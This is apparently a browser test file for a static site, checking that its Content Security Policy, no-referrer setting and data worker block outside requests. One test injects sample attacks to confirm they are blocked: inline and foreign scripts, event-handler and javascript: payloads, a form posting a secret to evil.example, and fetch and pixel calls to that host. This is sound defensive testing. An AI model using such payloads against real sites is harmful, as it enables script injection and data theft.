// The policy of the page, tried: nothing that gets into the document runs, nobody is asked who is not known, and nobody is told
// where a visitor comes from.

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { test } from "node:test";
import { ROUTES } from "../../scripts/post-build.mjs";
import { DIST, GITHUB, TESTGRID, openPage, serveDist } from "./harness.mjs";

const CSP = /CSP: |Content Security Policy|Content-Security-Policy|EvalError/;
const UNREACHABLE = /ERR_NAME_NOT_RESOLVED|ERR_FAILED|Failed to load resource/;
const PAGES = ["", ...ROUTES];

const directives = (policy) =>
  Object.fromEntries(policy.split("; ").map((part) => [part.split(" ")[0], part.split(" ").slice(1)]));

test("every file of a page has the policy, before anything that it is for", async () => {
  for (const file of [...PAGES.map((route) => `${route || "index"}.html`), "404.html"]) {
    const html = await readFile(join(DIST, file), "utf8");
    const [, policy] = html.match(/<head>\s*<meta http-equiv="Content-Security-Policy" content="([^"]+)"/) ?? [];
    assert.ok(policy, `${file}: the first of its head`);
    const found = directives(policy);
    assert.deepEqual(found["default-src"], ["'none'"], file);
    assert.deepEqual(found["object-src"], ["'none'"], file);
    assert.deepEqual(found["base-uri"], ["'self'"], file);
    const scripts = found["script-src"];
    assert.deepEqual(scripts.filter((source) => !/^'(self|wasm-unsafe-eval|sha256-[\w+/=]+)'$/.test(source)), [], file);
    assert.deepEqual(found["style-src"], ["'self'"], file);
    assert.ok(!/unsafe-inline|'unsafe-eval'|\*/.test(policy), file);
    assert.match(html, /<meta name="referrer" content="no-referrer"/, file);
  }
});

for (const route of PAGES) {
  test(`/${route} keeps to the policy, and asks nobody else`, async (t) => {
    const site = await serveDist(t);
    const page = await openPage(t, `${site.url}${route}?src=sample&v=1`); // a violation fails it
    await page.locator("#page-title").waitFor({ timeout: 60_000 });
    await page.waitForLoadState("networkidle");
    const elsewhere = page.asked.map(({ url }) => url).filter((url) => !/^(data|blob):/.test(url) && !url.startsWith(site.url));
    assert.deepEqual(elsewhere, []);
  });
}

test("nothing that gets into the document runs", async (t) => {
  const site = await serveDist(t);
  const page = await openPage(t, `${site.url}method`, { allow: [CSP, UNREACHABLE] });
  await page.locator("#page-title").waitFor();
  const refused = [];
  page.on("requestfailed", (request) => refused.push(`${request.url()} ${request.failure().errorText}`));
  await page.evaluate(() => {
    window.ran = [];
    window.blocked = [];
    document.addEventListener("securitypolicyviolation", (event) => window.blocked.push(event.effectiveDirective));
    const script = document.createElement("script");
    script.textContent = 'window.ran.push("an inline script")';
    document.body.append(script);
    const foreign = document.createElement("script");
    foreign.src = "https://evil.example/x.js";
    document.body.append(foreign);
    const add = (html) => document.body.insertAdjacentHTML("beforeend", html);
    add(`<img src="x:" onerror="window.ran.push('an attribute')">`);
    add(`<a id="bad" href="javascript:window.ran.push('a link')">x</a>`);
    add(`<iframe srcdoc="<script>parent.ran.push('a frame')</script>"></iframe>`);
    add(`<form id="form" action="https://evil.example/" method="post"><input name="secret" value="1"></form>`);
    add(`<p id="styled" style="color: rgb(1, 2, 3)">x</p>`);
    document.getElementById("bad").click();
    document.getElementById("form").submit();
    // Later, because what a test itself runs is let through.
    setTimeout(() => new Function("window.ran.push('text')")());
    setTimeout(() => setTimeout("window.ran.push('text, later')"));
    fetch("https://evil.example/").catch(() => {});
    new Image().src = "https://evil.example/pixel";
  });
  await page.waitForFunction(() => window.blocked.includes("form-action"));
  await page.waitForTimeout(500); // what would run has had its time
  assert.deepEqual(await page.evaluate(() => window.ran), []);
  assert.notEqual(await page.evaluate(() => getComputedStyle(document.getElementById("styled")).color), "rgb(1, 2, 3)");
  const blocked = new Set(await page.evaluate(() => window.blocked));
  for (const directive of ["script-src-elem", "script-src-attr", "style-src-attr", "connect-src", "img-src", "form-action"]) {
    assert.ok(blocked.has(directive), `${directive} of ${[...blocked]}`);
  }
  // What the browser calls a request was never sent: the policy stood before it.
  const tried = page.asked.filter(({ url }) => url.includes("evil.example")).map(({ url }) => `${url} csp`);
  assert.deepEqual(tried.filter((line) => !refused.includes(line)), []);
});

test("the worker asks the known hosts alone, whatever a link names, and follows nobody elsewhere", async (t) => {
  const site = await serveDist(t);
  const evil = encodeURIComponent("https://evil.example/api/v1");
  const failures = encodeURIComponent("https://evil.example/failures.jsonl");
  for (const path of [`?src=${evil}`, `flakes?src=${evil}`, `failures?src=${failures}`, `failures?src=sample&model=${evil}.json`]) {
    const page = await openPage(t, site.url + path, { allow: [UNREACHABLE] });
    await page.getByRole("heading", { name: "This link reads from another host" }).waitFor({ timeout: 60_000 });
    assert.deepEqual(page.asked.filter(({ url }) => url.includes("evil.example/") && !url.startsWith(site.url)), [], path);
    await page.context().close();
  }
  // A known host that sends the worker elsewhere.
  const page = await openPage(t, "about:blank", { allow: [UNREACHABLE, /redirect/i] });
  const headers = { location: "https://evil.example/api/v1", "access-control-allow-origin": "*" };
  await page.context().route(`${TESTGRID}/**`, (route) => route.fulfill({ status: 302, headers }));
  await page.goto(`${site.url}flakes`);
  await page.getByText("TestGrid cannot be reached. You see a made-up sample.").waitFor({ timeout: 60_000 });
  const asked = new Set(page.asked.filter(({ url }) => /^http/.test(url)).map(({ url }) => new URL(url).origin));
  assert.deepEqual([...asked].sort(), [GITHUB, TESTGRID, new URL(site.url).origin].filter((origin) => asked.has(origin)).sort());
});

test("nobody is told where a visitor comes from", async (t) => {
  const site = await serveDist(t);
  const page = await openPage(t, `${site.url}flakes`, { allow: [UNREACHABLE] });
  await page.getByText("TestGrid cannot be reached").waitFor({ timeout: 60_000 });
  const elsewhere = page.asked.filter(({ url }) => url.startsWith("https://"));
  assert.ok(elsewhere.length > 0);
  assert.deepEqual(elsewhere.filter(({ headers }) => headers.referer !== undefined), []);
  await page.goto(`${site.url}method`);
  const link = page.locator('main a[href^="https://"]').first();
  await page.context().route("https://**", (route) => route.fulfill({ contentType: "text/html", body: "<p>there</p>" }));
  const [request] = await Promise.all([page.waitForRequest((request) => request.url().startsWith("https://")), link.click()]);
  assert.equal(request.headers().referer, undefined);
});
